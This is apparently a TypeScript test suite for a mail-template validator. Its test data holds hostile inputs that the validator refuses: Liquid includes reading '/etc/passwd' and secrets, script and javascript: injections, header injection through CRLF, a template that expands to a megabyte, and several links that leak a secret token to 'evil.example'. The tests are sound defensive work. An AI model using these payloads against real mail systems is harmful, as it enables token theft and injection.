import type { Tenant } from '#platform/tenancy/tenant.js';
import { brandOf } from './render.js';
import { fillIn, makeReady, problemsOf } from './template.js';
import { secretLink, optionalText, text as textVariable, flag, type MailKind } from './mail-kind.js';
import type { MailText } from './mail-text.js';
import { TemplateBroken } from './markup.js';

const text: MailText = {
  subject: 'Ihre Prämie von {{ Betrag }}',
  preheader: 'Vorschau',
  because: 'Darum.',
  body: '<mj-text>{{ Anrede }}</mj-text>\n<mj-button href="{{ Link }}">Wählen</mj-button>',
};
const mail: MailKind = {
  kind: 'praemie',
  variables: { Link: secretLink('/praemie/'), Betrag: textVariable('45 €'), Kontakt: optionalText('Ben'), Erste: flag },
  texts: { de: { name: 'Prämie', ...text }, en: { name: 'Reward', ...text } },
};
/** Makes ten thousand letters of each `letter` of the salutation. */
const growing = (letter: string): string => {
  const tenfold = `| replace: "${letter}", "${letter.repeat(10)}"`;
  return `<mj-button href="{{ Link }}">x</mj-button><mj-text>{{ Anrede ${tenfold.repeat(4)} }}</mj-text>`;
};
const problems = (changes: Partial<MailText>) => problemsOf(mail, 'de', { ...text, ...changes });
const body = (more: string) => problems({ body: `${text.body}\n${more}` });

/** docs/specification/mails.md#texts-of-mails */
describe('a text that is to be published', () => {
  it('passes as it stands', () => expect(problems({})).toEqual([]));

  it.each([
    ['conditions between elements', '{% if Kontakt %}<mail-fact label="Kontakt">{{ Kontakt }}</mail-fact>{% endif %}'],
    ['conditions with signs of markup', '<mj-text>{% if Betrag > "10" %}viel{% else %}wenig{% endif %}</mj-text>'],
    [
      'emphasis, lists and links',
      '<mj-text><b>Jetzt</b><ul><li>eins</li></ul><a href="https://x.example">mehr</a></mj-text>',
    ],
    ['a filter', '<mj-text>{{ Kontakt | default: "Ihr Kontakt" | upcase }}</mj-text>'],
    ['a comment and a line', '<!-- Sommer --><mj-divider />'],
  ])('may hold %s', (_, more) => expect(body(more)).toEqual([]));

  it.each([
    ['a variable nobody fills', '<mj-text>{{ Kontostand }}</mj-text>', 'variable-unknown', 'Kontostand'],
    ['a condition that never ends', '{% if Kontakt %}<mj-text>x</mj-text>', 'liquid-broken', expect.anything()],
    ['a filter that does not exist', '<mj-text>{{ Betrag | doppelt }}</mj-text>', 'liquid-broken', expect.anything()],
    ['a way past the escape', '<mj-text>{{ Betrag | raw }}</mj-text>', 'liquid-broken', expect.anything()],
    ['a file', '{% include "/etc/passwd" %}', 'liquid-broken', expect.anything()],
    ['a file by another word', '{% render "../../secrets" %}', 'liquid-broken', expect.anything()],
    ['a loop', '{% for n in (1..1000000000) %}x{% endfor %}', 'liquid-broken', expect.anything()],
    [
      'a picture, which tells the sender who reads',
      '<mj-image src="https://x.example/p.gif" />',
      'element-unknown',
      'mj-image',
    ],
    ['a script', '<mj-text><script>alert(1)</script></mj-text>', 'element-unknown', 'script'],
    ['a handler', '<mj-text><b onclick="x()">x</b></mj-text>', 'element-unknown', 'b onclick="x()"'],
    [
      'a link that runs something',
      '<mj-text><a href="javascript:x()">x</a></mj-text>',
      'link-unsafe',
      'javascript:x()',
    ],
    ['a button without TLS', '<mj-button href="http://x.example">x</mj-button>', 'link-unsafe', 'http://x.example'],
    ['an element left open', '<mj-text>x', 'markup-broken', 'mj-text'],
    ['emphasis left open', '<mj-text><b>x</mj-text>', 'markup-broken', 'b'],
    ['words outside of every element', 'Hallo', 'markup-broken', 'Hallo'],
    ['a tone there is not', '<mail-note tone="loud">x</mail-note>', 'element-unknown', 'mail-note loud'],
  ])('is refused with %s', (_, more, reason, about) => expect(body(more)).toEqual([{ field: 'body', reason, about }]));

  it('is refused without the link it is sent for, also where a condition may leave that out', () => {
    const missing = [{ field: 'body', reason: 'variable-missing', about: 'Link' }];
    expect(problems({ body: '<mj-text>{{ Anrede }}</mj-text>' })).toEqual(missing);
    expect(problems({ body: '{% if Kontakt %}<mj-button href="{{ Link }}">x</mj-button>{% endif %}' })).toEqual(
      missing,
    );
    const askedForExample = '{% if Betrag == "45 €" %}<mj-button href="{{ Link }}">x</mj-button>{% endif %}';
    expect(problems({ body: askedForExample })).toEqual(missing);
    expect(problems({ body: '<!-- {{ Link }} --><mj-text>x</mj-text>' })).toEqual(missing);
  });

  it('keeps what opens something out of subject and preview', () => {
    expect(problems({ subject: '{{ Link }}' })).toEqual([
      { field: 'subject', reason: 'secret-in-subject', about: 'Link' },
    ]);
    expect(problems({ preheader: '{{ Link }}' })).toMatchObject([{ field: 'preheader' }]);
  });

  it.each([
    ['an address of somebody else’s', '<mj-button href="https://evil.example/?t={{ Link }}">x</mj-button>'],
    ['one in words', '<mj-text><a href="https://evil.example/#{{Link}}">x</a></mj-text>'],
    ['one behind a space', '<mj-text><a href="https://evil.example/ {{ Link }}">x</a></mj-text>'],
    [
      'one under a condition',
      '<mj-button href="https://evil.example/?{% if Kontakt %}{{ Link }}{% endif %}">x</mj-button>',
    ],
    ['an address of a letter', '<mj-text><a href="mailto:a@evil.example?body={{ Link }}">x</a></mj-text>'],
    ['words that become a link', '<mj-text>https://evil.example/?t={{ Link }}</mj-text>'],
    ['words whose end is emphasised', '<mj-text>https://evil.example/?t=<b>{{ Link }}</b></mj-text>'],
    [
      'words that a hyphen runs together',
      '<mj-text>https://evil.example/? {%- if Kontakt -%} {{ Link }}{% endif %}</mj-text>',
    ],
    ['words behind another variable', '<mj-text>https://evil.example/?{{ Betrag -}} {{ Link }}</mj-text>'],
    ['a filter', '<mj-text>{{ Link | prepend: "https://evil.example/?" }}</mj-text>'],
    ['another’s filter', '<mj-text>{{ "https://evil.example/?" | append: Link }}</mj-text>'],
  ])('sends what opens something to nobody: %s', (_, part) =>
    expect(problems({ body: `<mj-button href="{{ Link }}">x</mj-button>${part}` })).toMatchObject([
      { field: 'body', about: 'Link' },
    ]),
  );
  it('may say what opens something as words of their own', () =>
    expect(problems({ body: '<mj-text>Ihr Link: {{ Link }}</mj-text><mj-text><b>{{ Link }}</b></mj-text>' })).toEqual(
      [],
    ));

  it('grows with no value beyond what a mail holds: a few characters that fill in to a megabyte', () => {
    expect(problems({ body: growing('e') })).toMatchObject([{ field: 'body' }]);
  });

  it('names each field that is wrong, once', () =>
    expect(problems({ subject: '', preheader: '{{ Nix }}', body: 'x'.repeat(20_001) })).toMatchObject([
      { field: 'subject', reason: 'missing' },
      { field: 'preheader', reason: 'variable-unknown' },
      { field: 'body', reason: 'too-long' },
    ]));
});

describe('a text that is filled in', () => {
  const { light, dark, radius } = brandOf({
    name: 'Fernklang',
    config: { theme: {}, themeDark: {} },
  } as unknown as Tenant);
  const look = { brand: light, dark, radius, inner: radius };
  const frame = { language: 'de', name: 'Fernklang', company: null, links: [], look } as const;
  const values = { Anrede: 'Guten Tag,', Link: 'https://x.example/#t=1', Betrag: '45 €', Kontakt: null, Erste: false };

  it('has a subject of one line, whatever a name holds', () => {
    const { subject } = fillIn(makeReady(text), { ...values, Betrag: '45 €\r\nBcc: all@example.org' }, frame);
    expect(subject).toBe('Ihre Prämie von 45 € Bcc: all@example.org');
  });

  it('reads no value as a text of its own', () => {
    const { html, text: plain } = fillIn(makeReady(text), { ...values, Anrede: '{{ Link }}{% if %}' }, frame);
    expect(html).toContain('{{ Link }}{% if %}');
    expect(plain).toContain('{{ Link }}{% if %}');
  });

  it('ends at a size, whatever letters a name has that no example had', () => {
    const ready = makeReady({ ...text, body: growing('z') });
    expect(() => fillIn(ready, { ...values, Anrede: 'z'.repeat(40) }, frame)).toThrow(TemplateBroken);
  });

  it('fails where a value is not there, so that nobody reads half a mail', () => {
    const { Link: _, ...without } = values;
    expect(() => fillIn(makeReady(text), without, frame)).toThrow(/undefined variable/);
  });
});
